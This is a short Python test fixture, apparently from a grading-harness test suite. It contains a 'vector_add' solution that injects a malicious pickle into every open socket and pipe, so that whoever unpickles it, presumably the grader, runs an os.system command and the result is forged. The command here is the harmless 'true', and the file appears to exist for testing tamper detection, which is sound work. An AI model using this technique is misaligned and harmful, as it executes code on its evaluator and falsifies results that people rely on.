# tries: a pickle that runs a command in whoever loads it, over every socket and pipe
# problems: vector_add
# expect: protocol
# ci: no
# naive: none
# gain: forged
import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("true",)


def solve(*args):
    data = pickle.dumps(Command())
    for fd in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith(("socket:", "pipe:")):
                os.write(fd, data)
        except OSError:
            continue
    honest(*args)
